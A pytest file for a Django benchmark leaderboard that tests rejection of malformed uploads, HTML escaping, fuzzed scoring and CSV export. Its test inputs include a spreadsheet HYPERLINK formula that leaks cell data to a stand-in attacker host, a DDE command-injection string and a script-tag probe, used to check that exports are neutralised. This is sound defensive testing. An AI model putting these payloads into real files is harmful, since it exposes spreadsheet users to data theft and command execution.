"""Bad files through the site: every file of the corpus (tests/corpus), uploaded with the submit
form and scored as the worker scores it, ends rejected with its errors on the submission page and
in its JSON, never a server error; and hundreds of generated files end scored or rejected, never
queued or scoring."""

import csv
import io

import pytest
from django.core.files.base import ContentFile
from django.core.files.uploadedfile import SimpleUploadedFile
from django.utils.html import escape
from hypothesis import given, settings
from hypothesis import strategies as st

from leaderboard import services
from leaderboard.models import Submission
from tests.corpus import CASES, GOLD, Case
from tests.scoring.test_fuzz import FUZZ, GRADERS, gold_text, prediction_files

pytestmark = pytest.mark.django_db

REJECTED = [case for case in CASES if not case.scored and not case.refused]
REFUSED = [case for case in CASES if case.refused]
SCORED = [case for case in CASES if case.scored]


@pytest.fixture(autouse=True)
def _no_quota(settings):
    # Every upload of these tests counts until it is rejected; the quota is not what they test.
    settings.SUBMISSION_DAILY_QUOTA = 100_000


def benchmark_for(make_benchmark, case: Case):
    return make_benchmark(
        slug="capitals",
        gold=GOLD.read_text(encoding="utf-8"),
        grader=case.grader,
        min_coverage=case.min_coverage,
    )


def upload(client, case: Case, **fields):
    data = {
        "model_name": "tiny-model",
        "organisation": "Example Lab",
        "url": "",
        "description": "",
        "visibility": "public",
        "file": SimpleUploadedFile(case.name, case.path.read_bytes()),
        **fields,
    }
    return client.post("/benchmarks/capitals/submit/", data)


@pytest.mark.parametrize("case", REJECTED, ids=lambda case: case.name)
def test_it_rejects_each_bad_upload_showing_every_error(
    client, user, make_benchmark, settings, case
):
    # The site's own limit, 50 MB by default, is the one the gzip bombs must meet.
    assert case.max_bytes == settings.UPLOAD_MAX_BYTES
    benchmark_for(make_benchmark, case)
    client.force_login(user)
    response = upload(client, case)
    submission = Submission.objects.get()
    assert response.status_code == 302
    assert response["Location"] == f"/submissions/{submission.pk}/"
    assert submission.status == Submission.Status.QUEUED

    services.submission_score(submission_id=submission.pk)

    submission.refresh_from_db()
    assert submission.status == Submission.Status.REJECTED
    assert submission.errors == list(case.errors)
    assert not submission.runs.exists()
    page = client.get(f"/submissions/{submission.pk}/")
    assert page.status_code == 200
    content = page.content.decode()
    for error in case.errors:
        assert escape(error) in content
    assert "<script>alert(1)</script>" not in content
    data = client.get(f"/submissions/{submission.pk}.json").json()
    assert data["status"] == "rejected"
    assert data["errors"] == list(case.errors)
    assert data["n_errors"] == case.total_errors
    assert "metrics" not in data


@pytest.mark.parametrize("case", REFUSED, ids=lambda case: case.name)
def test_it_refuses_some_bad_uploads_before_saving_anything(
    client, user, make_benchmark, settings, case
):
    settings.UPLOAD_MAX_BYTES = case.max_bytes
    benchmark_for(make_benchmark, case)
    client.force_login(user)
    response = upload(client, case)
    assert response.status_code == 200
    assert escape(case.refused) in response.content.decode()
    assert not Submission.objects.exists()


FORMULA_MODEL = '=HYPERLINK("http://attacker.example/?leak="&A1,"tiny-model")'
FORMULA_ORGANISATION = "+cmd|' /C calc'!A0"


@pytest.mark.parametrize("case", SCORED, ids=lambda case: case.name)
def test_it_scores_formula_answers_and_never_exports_a_formula(client, user, make_benchmark, case):
    benchmark_for(make_benchmark, case)
    client.force_login(user)
    upload(client, case, model_name=FORMULA_MODEL, organisation=FORMULA_ORGANISATION)
    submission = Submission.objects.get()

    services.submission_score(submission_id=submission.pk)

    data = client.get(f"/submissions/{submission.pk}.json").json()
    assert data["status"] == "scored"
    counts = data["metrics"]["counts"]
    assert (counts["correct"], counts["incorrect"], counts["abstained"]) == case.counts
    page = client.get(f"/submissions/{submission.pk}/").content.decode()
    assert escape(FORMULA_MODEL) in page
    export = client.get("/benchmarks/capitals/leaderboard.csv")
    assert export.status_code == 200
    (row,) = csv.DictReader(io.StringIO(export.content.decode()))
    # A spreadsheet opening the export sees text, not a formula to run.
    assert row["model"] == "'" + FORMULA_MODEL
    assert row["organisation"] == "'" + FORMULA_ORGANISATION


def test_it_ends_every_generated_file_scored_or_rejected(client, user, make_benchmark):
    benchmarks = {
        grader: make_benchmark(slug=f"fuzz-{grader}", gold=gold_text(grader), grader=grader)
        for grader in GRADERS
    }
    client.force_login(user)

    # Fixtures are set up once for all the examples: each example adds a submission.
    @settings(FUZZ, max_examples=300)
    @given(file=prediction_files(), grader=st.sampled_from(GRADERS))
    def check(file, grader):
        name, data = file
        submission = services.submission_create(
            benchmark=benchmarks[grader],
            owner=user,
            file=ContentFile(data, name=name),
            model_name="fuzzed",
            queue=False,
        )
        services.submission_score(submission_id=submission.pk)
        assert client.get(f"/submissions/{submission.pk}/").status_code == 200
        response = client.get(f"/submissions/{submission.pk}.json")
        assert response.status_code == 200
        status = response.json()
        assert status["status"] in ("scored", "rejected"), status
        if status["status"] == "rejected":
            assert status["errors"] and status["n_errors"] >= len(status["errors"]) - 1
            assert all(error.strip() for error in status["errors"])
        else:
            assert status["metrics"]["n_items"] == 8
            assert Submission.objects.get(pk=submission.pk).runs.exists()

    check()
